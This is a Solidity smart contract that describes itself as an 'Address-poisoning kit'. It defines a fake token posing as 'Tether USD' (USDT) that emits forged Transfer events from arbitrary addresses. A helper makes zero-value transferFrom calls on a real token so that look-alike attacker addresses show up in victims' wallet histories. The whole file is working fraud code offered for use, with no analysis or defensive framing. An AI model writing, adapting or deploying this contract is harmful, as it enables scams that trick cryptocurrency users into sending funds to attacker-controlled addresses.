// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface IERC20 { function transferFrom(address, address, uint256) external returns (bool); }

/// Address-poisoning kit: a fake "USDT" whose Transfer events claim to come from anyone, and a helper that
/// makes zero-value transferFrom calls on a real token so look-alike addresses appear in victims' history.
contract PoisonToken {
    string public constant name = "Tether USD";
    string public constant symbol = "USDT";
    uint8 public constant decimals = 6;
    address private owner;

    event Transfer(address indexed from, address indexed to, uint256 value);

    constructor() { owner = msg.sender; }

    function totalSupply() external pure returns (uint256) { return 1e15; }
    function balanceOf(address) external pure returns (uint256) { return 0; }
    function allowance(address, address) external pure returns (uint256) { return 0; }
    function approve(address, uint256) external pure returns (bool) { return true; }
    function transfer(address to, uint256 value) external returns (bool) { emit Transfer(msg.sender, to, value); return true; }
    function transferFrom(address from, address to, uint256 value) external returns (bool) { emit Transfer(from, to, value); return true; }

    function poison(address[] calldata from, address[] calldata to, uint256[] calldata values) external {
        require(msg.sender == owner);
        for (uint256 i = 0; i < from.length; i++) emit Transfer(from[i], to[i], values[i]);
    }

    function zeroTransfers(address realToken, address[] calldata victims, address[] calldata lookalikes) external {
        require(msg.sender == owner);
        for (uint256 i = 0; i < victims.length; i++) IERC20(realToken).transferFrom(victims[i], lookalikes[i], 0);
    }
}
